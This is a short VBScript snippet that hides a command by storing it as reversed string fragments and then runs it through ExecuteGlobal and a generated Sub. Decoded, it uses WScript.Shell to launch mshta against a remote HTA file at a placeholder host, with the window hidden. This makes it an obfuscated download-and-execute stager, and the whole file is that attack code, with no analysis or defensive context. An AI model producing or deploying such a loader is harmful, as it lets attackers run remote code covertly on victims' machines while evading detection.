Dim text
' The pieces stand in reverse order, and each is written backwards.
text = StrReverse(Join(Array("0 ,""ath.a/dilavni.tsoh//:ptth ", "aths", "m"" nuR.)""llehS.", "tpircSW""(tcejbOetaerC"), ""))
ExecuteGlobal "Sub Later : Execute " & """" & Replace(text, """", """""") & """" & " : End Sub"
Later
